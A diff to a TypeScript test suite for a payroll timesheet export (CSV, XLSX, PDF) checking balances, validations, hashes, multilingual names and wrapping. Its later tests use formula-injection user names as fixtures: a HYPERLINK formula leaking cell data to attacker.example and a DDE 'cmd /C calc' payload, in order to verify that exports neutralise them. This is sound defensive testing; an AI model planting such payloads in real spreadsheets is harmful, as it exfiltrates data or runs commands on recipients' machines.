@@ -1,12 +1,14 @@
 // Payroll timesheets read back: CSV parsed by hand, XLSX with exceljs, PDF text with unpdf; their
-// figures equal the balance endpoint's, and they carry the head hash of the person's change log.
+// figures equal the balance endpoint's (the balance to date, days to come planned), they carry the week's
+// validation and the head hash of the person's change log, names run as no formula in a spreadsheet, and
+// the PDF prints every script as written, wraps long details, and has the company's name and signatures.
 import ExcelJS from 'exceljs';
 import { extractText, getDocumentProxy } from 'unpdf';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { UserRow } from '../../db/schema.js';
 import { codes, createTestApp, type TestApp } from '../../test/app.js';
 import { TimeFactories } from '../../test/time-factories.js';
-import { parseDuration } from '../../timesheets/sheet.js';
+import { formatDuration, parseDuration } from '../../timesheets/sheet.js';
 
 let t: TestApp;
 let manager: UserRow;
@@ -14,11 +16,26 @@ let amelie: UserRow;
 let bruno: UserRow;
 let outsider: UserRow;
 let teamId: number;
+let validatedAt: string;
 
 const RANGE = 'start=2026-04-27&end=2026-05-03';
+const COMPANY = 'Łódź Bakery Sp. z o.o.';
+
+/** An instant as `YYYY-MM-DD HH:MM` in Paris. */
+function parisMinute(instant: string | Date): string {
+  return new Intl.DateTimeFormat('sv-SE', {
+    timeZone: 'Europe/Paris',
+    year: 'numeric',
+    month: '2-digit',
+    day: '2-digit',
+    hour: '2-digit',
+    minute: '2-digit',
+    hourCycle: 'h23',
+  }).format(new Date(instant));
+}
 
 beforeAll(async () => {
-  t = await createTestApp({ env: { APP_TIMEZONE: 'Europe/Paris', HOLIDAYS_REGION: 'FR' } });
+  t = await createTestApp({ env: { APP_TIMEZONE: 'Europe/Paris', HOLIDAYS_REGION: 'FR', COMPANY_NAME: COMPANY } });
   const tf = new TimeFactories(t.db);
   manager = await t.f.buildUser({ role: 'manager', name: 'Manager' });
   amelie = await t.f.buildUser({ name: 'Amélie, "A"' });
@@ -38,6 +55,9 @@ beforeAll(async () => {
   await tf.absence(amelie, { start_date: '2026-04-30', end_date: '2026-04-30', type: 'sick' });
   // Friday 1 May is a public holiday in France. Bruno worked on it.
   await tf.workingTime(bruno, { start: '2026-05-01T07:00:00', end: '2026-05-01T09:15:30' });
+  const validation = await t.sendAs(manager, 'POST', `/users/${amelie.id}/week-validations`, { week_start: '2026-04-27' });
+  expect(validation.statusCode).toBe(201);
+  validatedAt = parisMinute(validation.json().data.validated_at);
 });
 afterAll(() => t.close());
 
@@ -63,13 +83,24 @@ function parseCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i += 1) {
     const c = text[i]!;
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (field += '"'), (i += 1);
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i += 1;
+      }
       else if (c === '"') quoted = false;
       else field += c;
     } else if (c === '"') quoted = true;
-    else if (c === ',') row.push(field), (field = '');
+    else if (c === ',') {
+      row.push(field);
+      field = '';
+    }
     else if (c === '\r') continue;
-    else if (c === '\n') row.push(field), rows.push(row), (row = []), (field = '');
+    else if (c === '\n') {
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = '';
+    }
     else field += c;
   }
   return rows;
@@ -77,28 +108,72 @@ function parseCsv(text: string): string[][] {
 
 const TOTAL_KEYS = ['worked_seconds', 'expected_seconds', 'absence_seconds', 'holiday_seconds', 'balance_seconds'] as const;
 const totalsOf = (balance: Record<string, number>) => TOTAL_KEYS.map((key) => balance[key]);
+/** The CSV columns of worked, expected, absence, holiday and balance. */
+const CSV_FIGURES = [6, 7, 8, 10, 12];
+/** The XLSX columns (1-based) of the same. */
+const XLSX_FIGURES = [5, 6, 7, 9, 11];
+
+/** A PDF's text, its line breaks (where long lines wrap) read as spaces. */
+async function pdfText(response: { rawPayload: Buffer }): Promise<string> {
+  return (await extractText(await getDocumentProxy(new Uint8Array(response.rawPayload)), { mergePages: true })).text.replace(/\s+/g, ' ');
+}
 
 describe('timesheets', () => {
-  it('CSV: every day and the totals of the balance, the change-log head, in the person’s language', async () => {
+  it('CSV: every day and the balance to date, the week’s validation, the change-log head, in the person’s language', async () => {
     const response = await download(manager, `/users/${amelie.id}/timesheet?${RANGE}&format=csv`);
     expect(response.statusCode).toBe(200);
     expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
     expect(response.headers['content-disposition']).toBe(`attachment; filename="timesheet-${amelie.id}-2026-04-27-2026-05-03.csv"`);
     const rows = parseCsv(response.body.replace(/^\uFEFF/, ''));
-    expect(rows[0]).toEqual(['user_id', 'Personne', 'Date', 'Plages', 'Pauses', 'Travaillé', 'Prévu', 'Absence', "Type d'absence", 'Férié', 'Nom du férié', 'Solde', 'Empreinte du dernier changement']);
+    expect(rows[0]).toEqual([
+      'user_id',
+      'Personne',
+      'Date',
+      'Jour',
+      'Plages',
+      'Pauses',
+      'Travaillé',
+      'Prévu',
+      'Absence',
+      "Type d'absence",
+      'Férié',
+      'Nom du férié',
+      'Solde',
+      'Semaine validée par',
+      'Semaine validée le',
+      'Empreinte du dernier changement',
+    ]);
     expect(rows).toHaveLength(1 + 7 + 1);
     const balance = await balanceOf(amelie);
     // Worked 8 h + 2 h + 2.5 h; expected Monday to Thursday (the sick day too, then credited); 1 May a holiday.
     expect(totalsOf(balance)).toEqual([45_000, 4 * 28_800, 28_800, 28_800, 45_000 + 28_800 - 4 * 28_800]);
-    expect(rows[1]).toEqual([String(amelie.id), 'Amélie, "A"', '2026-04-27', '08:00-17:00', '12:00-13:00', '8:00:00', '8:00:00', '0:00:00', '', '0:00:00', '', '0:00:00', '']);
-    expect(rows[2]!.slice(2, 4)).toEqual(['2026-04-28', '22:00-24:00']);
-    expect(rows[3]!.slice(2, 4)).toEqual(['2026-04-29', '00:00-02:30']);
-    expect(rows[4]!.slice(7, 9)).toEqual(['8:00:00', 'maladie']);
-    expect(rows[5]!.slice(9, 11)).toEqual(['8:00:00', 'Fête du travail']);
+    expect(rows[1]).toEqual([
+      String(amelie.id),
+      'Amélie, "A"',
+      '2026-04-27',
+      '',
+      '08:00-17:00',
+      '12:00-13:00',
+      '8:00:00',
+      '8:00:00',
+      '0:00:00',
+      '',
+      '0:00:00',
+      '',
+      '0:00:00',
+      'Manager',
+      validatedAt,
+      '',
+    ]);
+    expect(rows[2]!.slice(2, 5)).toEqual(['2026-04-28', '', '22:00-24:00']);
+    expect(rows[3]!.slice(2, 5)).toEqual(['2026-04-29', '', '00:00-02:30']);
+    expect(rows[4]!.slice(8, 10)).toEqual(['8:00:00', 'maladie']);
+    expect(rows[5]!.slice(10, 12)).toEqual(['8:00:00', 'Fête du travail']);
     rows.slice(1, 8).forEach((row, index) => {
       const day = balance.days[index];
       expect(row[2]).toBe(day.date);
-      expect([row[5], row[6], row[7], row[9], row[11]].map((value) => parseDuration(value!))).toEqual([
+      expect(row.slice(13, 15)).toEqual(['Manager', validatedAt]);
+      expect(CSV_FIGURES.map((column) => parseDuration(row[column]!))).toEqual([
         day.worked_seconds,
         day.expected_seconds,
         day.absence_seconds,
@@ -107,13 +182,17 @@ describe('timesheets', () => {
       ]);
     });
     const total = rows[8]!;
-    expect(total[2]).toBe('Total');
-    expect([total[5], total[6], total[7], total[9], total[11]].map((v) => parseDuration(v!))).toEqual(totalsOf(balance));
-    expect(total[12]).toBe(await headHash(amelie));
-    expect(total[12]).toMatch(/^[0-9a-f]{64}$/);
+    // The range is over: the balance to date runs through its end and equals the range's sums.
+    expect(balance.to_date.through).toBe('2026-05-03');
+    expect(total.slice(2, 4)).toEqual(['Solde à ce jour', 'jusqu’au 2026-05-03']);
+    expect(CSV_FIGURES.map((column) => parseDuration(total[column]!))).toEqual(totalsOf(balance.to_date));
+    expect(total[15]).toBe(await headHash(amelie));
+    expect(total[15]).toMatch(/^[0-9a-f]{64}$/);
+    // A negative figure the service computes is written as it is, not as text.
+    expect(response.body).toContain(',-11:30:00,');
   });
 
-  it('XLSX: a worksheet per member, figures in hours that read back to the balance', async () => {
+  it('XLSX: a worksheet per member, figures in hours that read back to the balance to date, the validation', async () => {
     const response = await download(manager, `/teams/${teamId}/timesheet?${RANGE}&format=xlsx`);
     expect(response.statusCode).toBe(200);
     expect(response.headers['content-disposition']).toContain('.xlsx"');
@@ -125,45 +204,51 @@ describe('timesheets', () => {
       expect(sheet.getRow(1).getCell(2).value).toBe(person.name);
       expect(sheet.getRow(4).getCell(2).value).toBe((await headHash(person)) ?? (person === bruno ? 'none' : 'aucune'));
       const total = sheet.getRow(6 + 7 + 1);
+      expect(total.getCell(2).value).toBe(person === bruno ? 'up to 2026-05-03' : 'jusqu’au 2026-05-03');
       const seconds = (column: number) => Math.round(Number(total.getCell(column).value) * 3600);
       const balance = await balanceOf(person);
-      expect([seconds(4), seconds(5), seconds(6), seconds(8), seconds(10)]).toEqual([
-        balance.worked_seconds,
-        balance.expected_seconds,
-        balance.absence_seconds,
-        balance.holiday_seconds,
-        balance.balance_seconds,
-      ]);
+      expect(XLSX_FIGURES.map(seconds)).toEqual(totalsOf(balance.to_date));
+      const monday = sheet.getRow(7);
+      expect([monday.getCell(12).value, monday.getCell(13).value]).toEqual(person === amelie ? ['Manager', validatedAt] : [null, null]);
     }
     // Bruno has no schedule: the company default (7 h); he worked 2 h 15 min 30 s on a public holiday.
     expect(totalsOf(await balanceOf(bruno))).toEqual([8_130, 4 * 25_200, 0, 25_200, 8_130 - 4 * 25_200]);
   });
 
-  it('PDF: the totals line and the hash in the text', async () => {
+  it('PDF: the company, the balance to date, the week’s validation, the hash and the signature lines', async () => {
     const response = await download(manager, `/users/${bruno.id}/timesheet?${RANGE}&format=pdf`);
     expect(response.statusCode).toBe(200);
     expect(response.headers['content-type']).toBe('application/pdf');
-    const pdf = await getDocumentProxy(new Uint8Array(response.rawPayload));
-    const { text } = await extractText(pdf, { mergePages: true });
+    const text = await pdfText(response);
+    expect(text.startsWith(COMPANY)).toBe(true);
     expect(text).toContain('Timesheet: Bruno');
     expect(text).toContain('Change-log head hash: none');
-    const match = /Total: Worked (-?\d+:\d\d:\d\d); Expected (-?\d+:\d\d:\d\d); Absence (-?\d+:\d\d:\d\d); Holiday (-?\d+:\d\d:\d\d); Balance (-?\d+:\d\d:\d\d)/.exec(text);
+    const match =
+      /Balance to date \(up to 2026-05-03\): Worked (-?\d+:\d\d:\d\d); Expected (-?\d+:\d\d:\d\d); Absence (-?\d+:\d\d:\d\d); Holiday (-?\d+:\d\d:\d\d); Balance (-?\d+:\d\d:\d\d)/.exec(
+        text,
+      );
     expect(match).not.toBeNull();
     expect(match!.slice(1).map(parseDuration)).toEqual([8_130, 4 * 25_200, 0, 25_200, 8_130 - 4 * 25_200]);
+    expect(text).toContain('Week of 2026-04-27: not validated');
+    expect(text).toContain("Employee's signature");
+    expect(text).toContain("Manager's signature");
 
     const french = await download(manager, `/users/${amelie.id}/timesheet?${RANGE}&format=pdf`);
-    const frenchText = (await extractText(await getDocumentProxy(new Uint8Array(french.rawPayload)), { mergePages: true })).text;
+    const frenchText = await pdfText(french);
     expect(frenchText).toContain(`Empreinte du dernier changement: ${await headHash(amelie)}`);
-    expect(frenchText).toMatch(/Total: Travaillé 12:30:00; Prévu 32:00:00; Absence 8:00:00; Férié 8:00:00; Solde -11:30:00/);
+    expect(frenchText).toMatch(/Solde à ce jour \(jusqu’au 2026-05-03\): Travaillé 12:30:00; Prévu 32:00:00; Absence 8:00:00; Férié 8:00:00; Solde -11:30:00/);
+    expect(frenchText).toContain(`Semaine du 2026-04-27: validée par Manager le ${validatedAt}`);
+    expect(frenchText).toContain('Signature du salarié');
+    expect(frenchText).toContain('Signature du responsable');
   });
 
-  it('CSV of a team: one header, each member’s days and total', async () => {
+  it('CSV of a team: one header, each member’s days and balance to date', async () => {
     const response = await download(manager, `/teams/${teamId}/timesheet?${RANGE}`);
     expect(response.statusCode).toBe(200);
     const rows = parseCsv(response.body.replace(/^\uFEFF/, ''));
     expect(rows).toHaveLength(1 + 2 * 8);
     expect(rows[0]![1]).toBe('Person');
-    expect(rows[16]!.slice(0, 3)).toEqual([String(bruno.id), 'Bruno', 'Total']);
+    expect(rows[16]!.slice(0, 4)).toEqual([String(bruno.id), 'Bruno', 'Balance to date', 'up to 2026-05-03']);
   });
 
   it('refuses: 401, 403, 404, bad format, the range', async () => {
@@ -177,5 +262,128 @@ describe('timesheets', () => {
     expect((await download(manager, `/users/${amelie.id}/timesheet?${RANGE}&format=docx`)).statusCode).toBe(422);
     expect(codes(await download(manager, `/users/${amelie.id}/timesheet?start=2026-01-01&end=2027-01-02`))).toEqual({ end: ['range_too_long'] });
     expect(codes(await download(manager, `/teams/${teamId}/timesheet?start=2026-01-01`))).toEqual({ end: ['required'] });
+  });
+});
+
+describe('timesheets: names from outside, other scripts, long days, days to come', () => {
+  const JUNE = 'start=2026-06-01&end=2026-06-07';
+  const HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"Payroll")';
+  const GREEK_DAY_OFF = 'Ημέρα της εταιρείας';
+  let mallory: UserRow;
+  let atSign: UserRow;
+  let lukasz: UserRow;
+  let dmitry: UserRow;
+  let newcomer: UserRow;
+  let otherTeamId: number;
+  /** The pieces of Łukasz's long Tuesday, as the sheet writes them. */
+  const pieces: string[] = [];
+
+  beforeAll(async () => {
+    const tf = new TimeFactories(t.db);
+    const generalManager = await t.f.buildUser({ role: 'general_manager' });
+    mallory = await t.f.buildUser({ name: HYPERLINK });
+    atSign = await t.f.buildUser({ name: '@SUM(1+1)*cmd|\' /C calc\'!A0' });
+    lukasz = await t.f.buildUser({ name: 'Łukasz Żółć' });
+    dmitry = await t.f.buildUser({ name: 'Дмитрий Петров' });
+    newcomer = await t.f.buildUser({ name: 'Newcomer' });
+    otherTeamId = (await t.f.buildTeam({ manager, members: [mallory, atSign, lukasz, dmitry, newcomer] })).id;
+    for (const [date, name] of [
+      ['2026-06-03', '=1+2'],
+      ['2026-06-04', GREEK_DAY_OFF],
+    ]) {
+      expect((await t.sendAs(generalManager, 'POST', '/holidays', { date, name })).statusCode).toBe(201);
+    }
+    // Tuesday 2 June, Paris (UTC+2): twelve periods of 20 minutes from 08:00, 10 minutes apart, each with a
+    // 5-minute break: far more than the details column holds on one line.
+    for (let k = 0; k < 12; k += 1) {
+      const startMinute = 6 * 60 + k * 30;
+      const hhmm = (minute: number) => `${String(Math.floor(minute / 60)).padStart(2, '0')}:${String(minute % 60).padStart(2, '0')}`;
+      await tf.workingTime(lukasz, {
+        start: `2026-06-02T${hhmm(startMinute)}:00`,
+        end: `2026-06-02T${hhmm(startMinute + 20)}:00`,
+        breaks: [{ start: `2026-06-02T${hhmm(startMinute + 5)}:00`, end: `2026-06-02T${hhmm(startMinute + 10)}:00` }],
+      });
+      pieces.push(`${hhmm(startMinute + 120)}-${hhmm(startMinute + 140)}`, `${hhmm(startMinute + 125)}-${hhmm(startMinute + 130)}`);
+    }
+  });
+
+  it('CSV: names and days off that start like formulas are written as quoted text; figures stay figures', async () => {
+    const response = await download(manager, `/users/${mallory.id}/timesheet?${JUNE}`);
+    expect(response.statusCode).toBe(200);
+    const rows = parseCsv(response.body.replace(/^\uFEFF/, ''));
+    expect(rows[1]![1]).toBe(`'${HYPERLINK}`);
+    expect(rows[3]!.slice(10, 12)).toEqual(['7:00:00', "'=1+2"]);
+    expect(response.body).toContain(`,"'=HYPERLINK(""http://attacker.example/?leak=""&A2,""Payroll"")",2026-06-01,`);
+    expect(response.body).toContain(`,"'=1+2",`);
+    // No cell of the file starts a formula: every cell read back starts with a quote or no formula character.
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?![\d:]+$)/);
+    // The service's negative figures are written as they are: three weekdays owed 7 hours each.
+    expect(rows[1]![12]).toBe('-7:00:00');
+    expect(rows.at(-1)![12]).toBe('-21:00:00');
+    expect(response.body).toContain(',-21:00:00,');
+  });
+
+  it('CSV of a team: every member’s name neutralised', async () => {
+    const response = await download(manager, `/teams/${otherTeamId}/timesheet?${JUNE}`);
+    expect(response.statusCode).toBe(200);
+    const names = new Set(parseCsv(response.body.replace(/^\uFEFF/, '')).slice(1).map((row) => row[1]));
+    expect(names).toEqual(new Set([`'${HYPERLINK}`, `'${atSign.name}`, 'Łukasz Żółć', 'Дмитрий Петров', 'Newcomer']));
+  });
+
+  it('XLSX: a name starting with = is a string cell, no cell is a formula', async () => {
+    const response = await download(manager, `/teams/${otherTeamId}/timesheet?${JUNE}&format=xlsx`);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
+    const sheet = workbook.worksheets.find((candidate) => candidate.getRow(1).getCell(2).value === HYPERLINK)!;
+    expect(sheet).toBeDefined();
+    expect(sheet.getRow(1).getCell(2).type).toBe(ExcelJS.ValueType.String);
+    const holiday = sheet.getRow(6 + 3).getCell(10);
+    expect([holiday.value, holiday.type]).toEqual(['=1+2', ExcelJS.ValueType.String]);
+    for (const worksheet of workbook.worksheets) {
+      worksheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
+    }
+  });
+
+  it('PDF: names and a day off in other scripts print as written; a long day is wrapped, not cut', async () => {
+    for (const person of [lukasz, dmitry]) {
+      const text = await pdfText(await download(manager, `/users/${person.id}/timesheet?${JUNE}&format=pdf`));
+      expect(text).toContain(`Timesheet: ${person.name}`);
+      expect(text).toContain(GREEK_DAY_OFF);
+      expect(text).toContain(COMPANY);
+      if (person === lukasz) {
+        for (const piece of pieces) expect(text).toContain(piece);
+        expect(text).not.toContain('…');
+      }
+    }
+  });
+
+  it('days to come are planned and owe nothing; the balance to date and today apart, as the balance says', async () => {
+    const today = new Intl.DateTimeFormat('sv-SE', { timeZone: 'Europe/Paris' }).format(new Date());
+    const shift = (days: number) => new Date(Date.parse(`${today}T12:00:00Z`) + days * 86_400_000).toISOString().slice(0, 10);
+    const around = `start=${shift(-3)}&end=${shift(3)}`;
+    const balance = (await download(manager, `/users/${newcomer.id}/balance?${around}`)).json().data;
+    expect(balance.today.date).toBe(today);
+
+    const rows = parseCsv((await download(manager, `/users/${newcomer.id}/timesheet?${around}`)).body.replace(/^\uFEFF/, ''));
+    expect(rows.slice(1, 8).map((row) => row[3])).toEqual(['', '', '', 'In progress', 'Planned', 'Planned', 'Planned']);
+    // Past days carry their balance; today and the days to come none.
+    expect(rows.slice(1, 8).map((row) => row[12] !== '')).toEqual([true, true, true, false, false, false, false]);
+    expect(rows[8]!.slice(2, 4)).toEqual(['Balance to date', `up to ${balance.to_date.through}`]);
+    expect(CSV_FIGURES.map((column) => parseDuration(rows[8]![column]!))).toEqual(totalsOf(balance.to_date));
+
+    const text = await pdfText(await download(manager, `/users/${newcomer.id}/timesheet?${around}&format=pdf`));
+    expect(text).toContain('Planned');
+    expect(text).toContain(
+      `Balance to date (up to ${balance.to_date.through}): Worked 0:00:00; Expected ${formatDuration(balance.to_date.expected_seconds)};`,
+    );
+    expect(text).toContain(`Today so far (${today}): Worked 0:00:00; Expected ${formatDuration(balance.today.expected_seconds)}`);
+
+    // A range that starts today owes nothing yet: no negative figure anywhere in the PDF.
+    const ahead = `start=${today}&end=${shift(6)}`;
+    const aheadText = await pdfText(await download(manager, `/users/${newcomer.id}/timesheet?${ahead}&format=pdf`));
+    expect(aheadText).toContain('Balance to date: Nothing owed yet');
+    expect(aheadText).not.toMatch(/-\d+:\d\d:\d\d/);
+    const aheadRows = parseCsv((await download(manager, `/users/${newcomer.id}/timesheet?${ahead}`)).body.replace(/^\uFEFF/, ''));
+    expect(aheadRows.at(-1)!.slice(2, 13)).toEqual(['Balance to date', 'Nothing owed yet', '', '', '', '', '', '', '', '', '']);
   });
 });
